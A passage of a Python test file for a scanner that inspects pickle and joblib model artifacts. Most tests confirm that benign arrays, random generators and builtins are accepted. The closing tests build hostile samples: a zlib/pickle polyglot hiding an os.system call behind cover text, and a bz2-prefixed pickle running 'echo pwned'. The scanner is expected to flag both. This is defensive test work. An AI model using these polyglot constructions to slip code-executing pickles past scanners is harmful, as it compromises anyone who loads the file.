        "datetime64": np.array(["2026-01-01", "2026-06-30T12:00"], dtype="datetime64[ns]"),
        "timedelta64": np.array([1, 2], dtype="timedelta64[s]"),
        "structured": structured,
        "nested-structured": nested,
        "big-endian": np.arange(4, dtype=">f8"),
        "fortran": np.asfortranarray(np.arange(12.0).reshape(3, 4)),
        "0-d": np.array(3.5),
        "empty": np.zeros((0, 3)),
        "object": np.array([1, "a", None, 2.5], dtype=object),
        "structured-with-objects": np.array(
            [(1, "x", (None, 2.5))],
            dtype=[("n", "<i8"), ("o", "O"), ("t", [("p", "O"), ("q", "f8")])],
        ),
        "structured-300-fields": np.zeros(2, dtype=[(f"f{i}", "<f4") for i in range(300)]),
        "structured-aligned-titles": np.zeros(
            2,
            dtype=np.dtype(
                {"names": ["a", "b"], "formats": ["u1", "<f8"], "titles": ["A", None]}, align=True
            ),
        ),
        "object-subarray": np.zeros(2, dtype=("O", (3,))),
        "datetime-with-metadata": np.zeros(2, dtype=np.dtype("M8[ms]", metadata={"tz": "UTC"})),
        "large": np.arange(300_000, dtype=np.float64),
    }


ARRAYS = _arrays()
ARRAY_SERIALIZERS = ("pickle-p2", "pickle-p4", "pickle-p5", "joblib", "joblib-compress-3")


@pytest.mark.parametrize("serializer", ARRAY_SERIALIZERS)
@pytest.mark.parametrize("array", ARRAYS)
def test_numpy_array_is_accepted(array: str, serializer: str) -> None:
    dump, fmt = SERIALIZERS[serializer]
    assert_accepted(dump(ARRAYS[array]), fmt)


@pytest.mark.parametrize("serializer", ARRAY_SERIALIZERS)
def test_containers_of_arrays_are_accepted(serializer: str) -> None:
    dump, fmt = SERIALIZERS[serializer]
    payload = {
        "weights": [ARRAYS["float64"], ARRAYS["int32"]],
        "meta": {"classes": ARRAYS["str"], "shape": (4, 3)},
        "by_dtype": dict(ARRAYS),
    }
    assert_accepted(dump(payload), fmt)


def _generators() -> dict[str, object]:
    return {
        "default-rng": np.random.default_rng(0),
        "generator-mt19937": np.random.Generator(np.random.MT19937(1)),
        "generator-pcg64dxsm": np.random.Generator(np.random.PCG64DXSM(2)),
        "generator-philox": np.random.Generator(np.random.Philox(3)),
        "generator-sfc64": np.random.Generator(np.random.SFC64(4)),
        "random-state": np.random.RandomState(5),
        "bit-generator": np.random.PCG64(6),
        "seed-sequence": np.random.SeedSequence(7),
    }


@pytest.mark.parametrize("serializer", ARRAY_SERIALIZERS)
@pytest.mark.parametrize("generator", _generators())
def test_numpy_random_state_is_accepted(generator: str, serializer: str) -> None:
    dump, fmt = SERIALIZERS[serializer]
    assert_accepted(dump(_generators()[generator]), fmt)


BUILTINS = {
    "dict": {"a": 1, "b": [1, 2.5, "x", None, True], "c": (1, (2, 3)), 4: -(2**70)},
    "list": [1.5, float("inf"), "ünïcode", b"bytes", bytearray(b"ba"), complex(1, 2)],
    "sets": [set(), {1, 2}, frozenset({"a"})],
    "collections": [
        collections.OrderedDict(a=1),
        collections.Counter("abca"),
        collections.defaultdict(list, {"k": [1]}),
        collections.deque([1, 2], maxlen=5),
    ],
    "datetime": [
        datetime.date(2026, 1, 2),
        datetime.datetime(2026, 1, 2, 3, 4, 5, tzinfo=datetime.UTC),
        datetime.time(1, 2),
        datetime.timedelta(days=1),
    ],
    "numbers": [decimal.Decimal("1.25"), fractions.Fraction(1, 3), range(3), slice(1, 5, 2)],
    "shared": [[1, 2]] * 3,
    "empty": [(), {}, [], "", b""],
}


@pytest.mark.parametrize("proto", range(6))
@pytest.mark.parametrize("value", BUILTINS)
def test_builtins_containers_are_accepted(value: str, proto: int) -> None:
    assert_accepted(pickle.dumps(BUILTINS[value], protocol=proto), ArtifactFormat.PICKLE)


def test_forged_benign_wrapper_loads_and_is_accepted() -> None:
    """The forge writes what joblib writes: joblib loads it, and the scanner accepts it, so the
    tampered variants in the hostile corpus differ from a valid file only by the tampering."""
    for align in (16, None):
        f = _wrapper_file(shape=(2, 3), align=align, data=np.arange(6.0).tobytes())
        assert_accepted(f.data, ArtifactFormat.JOBLIB)
        (loaded,) = joblib.load(io.BytesIO(f.data))
        assert loaded.tolist() == [[0.0, 1.0, 2.0], [3.0, 4.0, 5.0]]
    data = _object_array_file(pickle.dumps(np.array([1, "a"], dtype=object), protocol=5))
    assert_accepted(data, ArtifactFormat.JOBLIB)
    assert joblib.load(io.BytesIO(data))[0].tolist() == [1, "a"]


def test_builtin_scorers_are_accepted() -> None:
    """A search or threshold estimator holds its scorer: every built-in scoring name."""
    from sklearn.metrics import get_scorer, get_scorer_names

    for name in get_scorer_names():
        data = pickle.dumps(get_scorer(name), protocol=4)
        report = scan(data)
        assert report.findings == (), name


# -- known weaknesses outside the walker -------------------------------------------------------


def zlib_pickle_polyglot() -> bytes:
    """One file that is a valid zlib stream and a hostile protocol 0 pickle.

    `(\x91` is a valid RFC 1950 header and MARK, FROZENSET; `\x89` is a final stored deflate
    block and NEWFALSE; the block length bytes `8c 80 73 7f` are SHORT_BINUNICODE of 128
    bytes, which swallows the rest of the block header and the cover text; then the pickle
    goes on inside the stored block's raw bytes. Decompressed, the file is the cover text
    (not a pickle); read raw, as joblib does (it only treats `x` as zlib) and as pickle.load
    does, it calls os.system."""
    size = 0x808C
    lengths = size.to_bytes(2, "little") + (size ^ 0xFFFF).to_bytes(2, "little")
    cover = b"# notes about the model\n".ljust(126, b" ")
    content = (cover + b"00" + NESTED).ljust(size, b" ")
    return b"(\x91\x89" + lengths + content + zlib.adler32(content).to_bytes(4, "big")


def test_zlib_polyglot_is_a_real_pickle() -> None:
    data = zlib_pickle_polyglot()
    assert zlib.decompress(data).startswith(b"# notes")
    ops = [(op.name, arg) for op, arg, _ in pickletools.genops(data)]
    assert ("GLOBAL", "os system") in ops
    assert ops[-1] == ("STOP", None)
    from joblib.numpy_pickle_utils import _detect_compressor

    assert _detect_compressor(io.BytesIO(data)) == "not-compressed"


def test_zlib_polyglot_is_rejected() -> None:
    # Only `x` starts a zlib file for joblib; anything else is walked as the pickle it is.
    report = scan(zlib_pickle_polyglot())
    assert report.format.value == "pickle"
    assert any("os.system" in f.reason for f in report.findings)


def test_bz2_magic_that_is_also_a_pickle_is_walked_raw() -> None:
    # "BZh" is BINBYTES to pickle.load: with two zero bytes after it, the next 26714 bytes are
    # a bytes literal and the opcodes after them run. joblib would call it bz2 (corrupt here).
    data = b"BZh\x00\x00" + b"\x00" * 0x685A + b"cos\nsystem\n(S'echo pwned'\ntR."
    assert ("GLOBAL", "os system") in [(op.name, arg) for op, arg, _ in pickletools.genops(data)]
    codes = {f.code for f in scan(data).findings}
    assert {"polyglot.pickle", "pickle.global_not_allowed"} <= codes


@pytest.mark.parametrize(
    "text", [b"cat\ndog\nbird\n", b"city\nOslo\nBergen\n", b"cat\n", b"iris\nsetosa\n"]
)
def test_label_files_that_start_like_global_stay_text(text: bytes) -> None:
    # GLOBAL would import module "at" / "ity" / "ris": nothing a loader can import, so the
    # file is text, not a pickle, and is accepted.
    report = scan(text)
    assert report.format.value == "unknown"
    assert report.clean


@pytest.mark.parametrize("text", [b"cos\nsystem\n", b"cunittest.__main__\nx\n", b"ctime\nx\n"])
def test_text_that_imports_a_real_module_is_a_pickle(text: bytes) -> None:
    report = scan(text)
    assert report.format.value == "pickle"
    assert "pickle.global_not_allowed" in {f.code for f in report.findings}
